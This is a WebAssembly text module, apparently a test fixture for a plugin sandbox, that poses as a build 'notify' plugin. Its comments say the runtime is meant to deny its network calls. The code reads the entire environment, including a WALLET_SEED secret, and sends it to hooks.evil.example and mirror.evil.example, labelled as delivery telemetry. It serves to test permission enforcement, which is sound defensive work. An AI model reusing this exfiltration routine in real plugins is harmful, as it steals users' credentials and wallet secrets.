;; The sneaky variant of acme:notify 1.2.4: the same code as
;; ../../registry/acme/notify/1.2.4/module.wat (and so the same module.wasm,
;; which internal/example checks), under a manifest that declares stdio
;; stderr and env WALLET_SEED but no net key. Its connects are errs.
(module
  (import "wasi_snapshot_preview1" "fd_write"
    (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "environ_sizes_get"
    (func $environ_sizes_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "environ_get"
    (func $environ_get (param i32 i32) (result i32)))
  ;; connect(host: string, port: u16) -> result<u32, string>,
  ;; send(conn: u32, data: list<u8>) -> result<u32, string>: the result in
  ;; a return area (its case at 0, the u32 or the string's ptr, len at 4)
  (import "nano:net/tcp@0.1.0" "connect"
    (func $connect (param i32 i32 i32 i32)))
  (import "nano:net/tcp@0.1.0" "send"
    (func $send (param i32 i32 i32 i32)))
  (import "nano:net/tcp@0.1.0" "close"
    (func $close (param i32)))

  (memory (export "memory") 1)
  ;; 0..23: three iovecs, 24..27: bytes written, 32..43: the return area,
  ;; 48..51: environ count, 52..55: environ buffer size, 64..: strings,
  ;; 1024..4095: environ pointers, 4096..32767: environ buffer,
  ;; 32768..: a bump heap for cabi_realloc (nano's err strings)
  (global $heap (mut i32) (i32.const 32768))
  (data (i32.const 64) "notify: build finished\n")
  (data (i32.const 96) "hooks.evil.example")
  (data (i32.const 128) "mirror.evil.example")
  (data (i32.const 160) "notify: \n")

  (func $alloc (export "cabi_realloc") (param $old i32) (param $old_size i32) (param $align i32) (param $size i32) (result i32)
    (local $p i32) (local $end i32) (local $have i32)
    (local.set $p (i32.and (i32.add (global.get $heap) (i32.sub (local.get $align) (i32.const 1)))
                           (i32.sub (i32.const 0) (local.get $align))))
    (local.set $end (i32.add (local.get $p) (local.get $size)))
    (if (i32.lt_u (local.get $end) (local.get $p)) (then (unreachable)))
    (local.set $have (i32.shl (memory.size) (i32.const 16)))
    (if (i32.gt_u (local.get $end) (local.get $have))
      (then
        (if (i32.eq (memory.grow (i32.shr_u (i32.add (i32.sub (local.get $end) (local.get $have)) (i32.const 0xffff)) (i32.const 16)))
                    (i32.const -1))
          (then (unreachable)))))
    (if (local.get $old)
      (then (memory.copy (local.get $p) (local.get $old)
        (select (local.get $old_size) (local.get $size) (i32.lt_u (local.get $old_size) (local.get $size))))))
    (global.set $heap (local.get $end))
    (local.get $p))

  ;; say writes "notify: ", the err in the return area and "\n" to stderr.
  (func $say
    (i32.store (i32.const 0) (i32.const 160))
    (i32.store (i32.const 4) (i32.const 8))
    (i32.store (i32.const 8) (i32.load (i32.const 36)))
    (i32.store (i32.const 12) (i32.load (i32.const 40)))
    (i32.store (i32.const 16) (i32.const 168))
    (i32.store (i32.const 20) (i32.const 1))
    (drop (call $fd_write (i32.const 2) (i32.const 0) (i32.const 3) (i32.const 24))))

  ;; exfil sends the len bytes at data to host:443.
  (func $exfil (param $host i32) (param $hostlen i32) (param $data i32) (param $len i32)
    (local $conn i32) (local $n i32)
    (call $connect (local.get $host) (local.get $hostlen) (i32.const 443) (i32.const 32))
    (if (i32.load8_u (i32.const 32))
      (then (call $say) (return)))
    (local.set $conn (i32.load (i32.const 36)))
    (block $done
      (loop $more
        (br_if $done (i32.eqz (local.get $len)))
        (call $send (local.get $conn) (local.get $data) (local.get $len) (i32.const 32))
        (if (i32.load8_u (i32.const 32))
          (then (call $say) (br $done)))
        (local.set $n (i32.load (i32.const 36)))
        (br_if $done (i32.eqz (local.get $n)))
        (local.set $data (i32.add (local.get $data) (local.get $n)))
        (local.set $len (i32.sub (local.get $len) (local.get $n)))
        (br $more)))
    (call $close (local.get $conn)))

  ;; notify(event) -> errno
  (func (export "notify") (param $event i32) (result i32)
    (local $errno i32)
    (i32.store (i32.const 0) (i32.const 64))
    (i32.store (i32.const 4) (i32.const 23))
    (local.set $errno
      (call $fd_write (i32.const 2) (i32.const 0) (i32.const 1) (i32.const 24)))
    ;; "delivery telemetry": the whole environment, WALLET_SEED included
    (if (i32.eqz (call $environ_sizes_get (i32.const 48) (i32.const 52)))
      (then
        (if (i32.and (i32.le_u (i32.load (i32.const 48)) (i32.const 768))
                     (i32.le_u (i32.load (i32.const 52)) (i32.const 28672)))
          (then
            (if (i32.eqz (call $environ_get (i32.const 1024) (i32.const 4096)))
              (then
                (call $exfil (i32.const 96) (i32.const 18) (i32.const 4096) (i32.load (i32.const 52)))
                (call $exfil (i32.const 128) (i32.const 19) (i32.const 4096) (i32.load (i32.const 52)))))))))
    (global.set $heap (i32.const 32768))
    (local.get $errno)))
